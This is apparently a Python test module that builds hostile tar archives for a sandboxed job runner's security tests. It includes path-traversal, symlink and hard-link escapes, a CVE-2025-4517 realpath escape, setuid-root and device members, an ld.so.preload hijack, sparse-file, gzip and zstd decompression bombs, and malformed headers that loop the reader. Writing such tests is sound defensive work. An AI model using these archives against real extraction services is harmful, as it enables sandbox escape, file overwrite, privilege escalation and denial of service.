"""Archives that no packing tool would make, from their members."""

from __future__ import annotations

import gzip
import io
import subprocess
import tarfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from functools import cache
from pathlib import Path
from typing import Any

from tests.attacks.attack import archive

_BLOCK = 512
_END = bytes(2 * _BLOCK)
_UP = "../" * 24  # more folders than any path here has above it
_LONG = "d" * 247
_STEPS = "abcdefghijklmnop"

Facts = Mapping[str, Any]
Member = tuple[tarfile.TarInfo, bytes]


def member(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, **fields: Any) -> Member:
    """One member; `fields` are attributes of tarfile's TarInfo."""
    info = tarfile.TarInfo(name)
    info.type, info.size, info.mode = kind, len(data), 0o644
    for field, value in fields.items():
        setattr(info, field, value)
    return info, data


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> Member:
    """A symbolic link, or with LNKTYPE a hard one."""
    return member(name, kind=kind, linkname=target, mode=0o777)


def packed(members: Iterable[Member]) -> bytes:
    """Header and blocks of each, without the end mark, so that more may follow."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data))
        length = tar.offset
    return out.getvalue()[:length]


def with_job(facts: Facts, members: Iterable[Member], script: str = "print('ran')\n") -> bytes:
    """A job of one script with these members before and behind it."""
    evil = packed(members)
    return evil + archive({"master": script}, {}, facts)


def of(make: Callable[[Facts], Iterable[Member]], script: str = "print('ran')\n") -> Callable[[Facts], bytes]:
    """For an attack's `raw`: a job with members that are made from the facts."""
    return lambda facts: with_job(facts, make(facts), script)


def dotdot(facts: Facts) -> list[Member]:
    """A name that climbs out."""
    return [member(f"{_UP}{facts['bait']}/dotdot", b"out\n")]


def absolute(facts: Facts) -> list[Member]:
    """A name that starts at the root."""
    return [member(f"{facts['bait']}/absolute", b"out\n")]


def through_a_link(facts: Facts) -> list[Member]:
    """A link to a folder outside, then a file in it."""
    return [link("way", facts["bait"]), member("way/linked", b"out\n")]


def through_a_hard_link(facts: Facts) -> list[Member]:
    """A hard link to a file outside, then other content under the link's name."""
    bait = f"{facts['bait']}/bait"
    return [link("hard", bait, tarfile.LNKTYPE), member("hard", b"out\n")]


def long_real_path(facts: Facts) -> list[Member]:
    """Links whose resolved path is longer than realpath can follow, and one that leads out at their end.

    CVE-2025-4517 of Python's tarfile: what cannot be resolved was taken for safe.
    """
    members, path = [], ""
    for step in _STEPS:
        members.append(member(f"{path}{_LONG}", kind=tarfile.DIRTYPE, mode=0o755))
        members.append(link(f"{path}{step}", _LONG))
        path += f"{_LONG}/"
    deep = "/".join(_STEPS) + "/" + "l" * 254
    members.append(link(deep, "../" * len(_STEPS)))
    members.append(link("escape", f"{deep}/{_UP}{facts['bait']}"))
    return [*members, member("escape/long", b"out\n")]


def device(_: Facts) -> list[Member]:
    """The kernel's endless zeros, to be opened if the node is made and may be used."""
    return [member("zeros", kind=tarfile.CHRTYPE, devmajor=1, devminor=5, mode=0o666)]


def setuid(_: Facts) -> list[Member]:
    """A program that is root's and runs as its owner."""
    program = Path("/usr/bin/id").read_bytes()
    return [member("rootly", program, mode=0o6755, uid=0, gid=0, uname="root", gname="root")]


def links_at_the_top(facts: Facts) -> list[Member]:
    """Links where the sandbox has its own folders."""
    names = ("usr", "etc", "tmp", "dev", "proc", "run", "lib", "bin", "job")
    return [link(name, facts["bait"]) for name in names]


def loaders_files(_: Facts) -> list[Member]:
    """What the loader reads while the sandbox's first program is still root's."""
    return [member("etc/ld.so.preload", b"/evil.so\n"), member("evil.so", b"not even a library\n")]


def sparse(facts: Facts) -> bytes:
    """A file of 1 TiB that takes a block: the sparse format 1.0, which only tar's extended headers tell."""
    data = b"1\n%d\n0\n" % (1 << 40)  # one piece of data: nothing, at the very end
    data = data.ljust(_BLOCK, b"\0")
    info, _ = member("GNUSparseFile.0/huge", data)
    info.pax_headers = {
        "GNU.sparse.major": "1",
        "GNU.sparse.minor": "0",
        "GNU.sparse.name": "huge",
        "GNU.sparse.realsize": str(1 << 40),
    }
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        tar.addfile(info, io.BytesIO(data))
        length = tar.offset
    script = "import os\nfrom attacker import *\nif os.path.getsize('/huge') >= 1 << 40: got_it('1 TiB')\n"
    return out.getvalue()[:length] + archive({"master": script}, {}, facts)


@cache
def gzip_bomb() -> bytes:
    """1 MB that expands to more than 1 GiB of one member."""
    mebibyte, count = 1 << 20, 1100
    info, _ = member("zeros")
    info.size = mebibyte * count
    head = packed([member("Makefile", b"master:\n\t@true\n")]) + info.tobuf(tarfile.GNU_FORMAT)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    begin = deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)
    # Behind a full flush nothing refers to what was before it: one piece serves for all.
    piece = deflate.compress(bytes(mebibyte)) + deflate.flush(zlib.Z_FULL_FLUSH)
    body = begin + piece * count + deflate.compress(_END) + deflate.flush()
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(bytes(mebibyte), crc)
    size = (len(head) + mebibyte * count + len(_END)) & 0xFFFFFFFF
    trailer = zlib.crc32(_END, crc).to_bytes(4, "little") + size.to_bytes(4, "little")
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + body + trailer


@cache
def zstd_bomb() -> bytes:
    """10 KB that expand to 160 MiB of files, each small enough for any bound of one file's size."""
    zeros = bytes(16 << 20)
    files = [member(f"zeros-{number}", zeros) for number in range(10)]
    job = archive({"master": _LOOKS_FOR_ALL_ZEROS}, {}, {})
    squeeze = ["zstd", "-q", "--stdout", "-1"]
    return subprocess.run(squeeze, input=packed(files) + job, capture_output=True, check=True).stdout


@cache
def endless_name() -> bytes:
    """A member's name of 300 MiB, which tar holds in memory, in 10 KB of zstd."""
    info, _ = member("././@LongLink", kind=tarfile.GNUTYPE_LONGNAME)
    info.size = 300 << 20
    plain = info.tobuf(tarfile.GNU_FORMAT) + bytes(info.size) + member("after")[0].tobuf(tarfile.GNU_FORMAT)
    job = archive({"master": "print('ran')\n"}, {}, {})
    squeeze = ["zstd", "-q", "--stdout", "-1"]
    return subprocess.run(squeeze, input=plain + job, capture_output=True, check=True).stdout


_LOOKS_FOR_ALL_ZEROS = """
import glob, os
from attacker import *
if sum(os.path.getsize(path) for path in glob.glob("/zeros-*")) >= 160 << 20:
    got_it("160 MiB")
"""


@cache
def empty_files(count: int) -> bytes:
    """So many empty files in one folder, gzipped, without the end mark."""
    empty = bytearray(member("many/" + "0" * 8)[0].tobuf(tarfile.GNU_FORMAT))
    at, checksum = len("many/"), sum(empty) - sum(empty[148:156]) + 8 * 0x20
    blocks = []
    for number in range(count):
        name = b"%08d" % number
        empty[at : at + 8] = name
        empty[148:156] = b"%06o\0 " % (checksum + sum(name) - 8 * 0x30)
        blocks.append(bytes(empty))
    return gzip.compress(b"".join(blocks), 1)


def many_files(facts: Facts, count: int, script: str = "print('ran')\n") -> bytes:
    """A job with so many empty files beside it."""
    return empty_files(count) + gzip.compress(archive({"master": script}, {}, facts))


def header_loop() -> bytes:
    """Names for a member that never comes: each extended header is followed by the next."""
    once = bytes(member("././@LongLink", kind=tarfile.GNUTYPE_LONGNAME)[0].tobuf(tarfile.GNU_FORMAT))
    return gzip.compress(packed([member("Makefile", b"master:\n\t@true\n")]) + once * 100_000 + _END, 1)


def backwards() -> bytes:
    """A member of a size below zero, which leads a reader that believes it back to its own header."""
    info, _ = member("again")
    header = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    header[124:136] = (-_BLOCK).to_bytes(12, "big", signed=True)  # GNU's base 256
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return packed([member("Makefile", b"master:\n\t@true\n")]) + bytes(header) + _END
